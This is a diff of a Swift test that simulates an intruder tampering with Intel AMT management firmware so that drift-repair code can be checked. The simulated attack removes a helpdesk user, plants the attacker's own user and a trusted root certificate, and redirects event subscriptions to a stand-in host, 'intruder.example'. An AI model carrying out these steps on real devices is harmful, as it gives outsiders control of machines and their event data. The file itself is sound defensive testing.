@@ -88,9 +88,11 @@ extension ClusterTests {
     private static let repairs = [
         "AMT_AuthorizationService.AddUserAclEntryEx", "AMT_AuthorizationService.RemoveUserAclEntry",
         "CIM_KVMRedirectionSAP.RequestStateChange", "AMT_PublicKeyCertificate.Delete", "AMT_GeneralSettings.Put",
+        "CIM_FilterCollection.Subscribe", "CIM_FilterCollectionSubscription.Unsubscribe",
     ]
 
-    /// Somebody takes a user away, adds one of his own and a trusted root, switches KVM off and pings on.
+    /// Somebody takes a user away, adds one of his own and a trusted root, switches KVM off and pings on, and has events sent to
+    /// himself instead of to us.
     private static func drift(_ stage: ProfileStage, _ index: Int) throws {
         try stage.fleet.order("remove-user", index, ["name": "helpdesk"])
         try stage.fleet.order(
@@ -100,5 +102,12 @@ extension ClusterTests {
             "drift", index, ["class": "AMT_GeneralSettings", "set": ["PingResponseEnabled": true]])
         try stage.fleet.order(
             "call", index, ["xml": .text(FirmwareOrder.stateChange(of: "CIM_KVMRedirectionSAP", to: 3))])
+        let filter = "Intel(r) AMT:Features"
+        let ours = try stage.device(index)["eventSubscriptions"].items.first { $0["filter"].text == filter }
+        let listener = try #require(ours?["listener"].text)
+        for xml in [
+            FirmwareOrder.unsubscribe(filter: filter, listener: listener),
+            FirmwareOrder.subscribe(to: "http://intruder.example"),
+        ] { try stage.fleet.order("call", index, ["xml": .text(xml)]) }
     }
 }
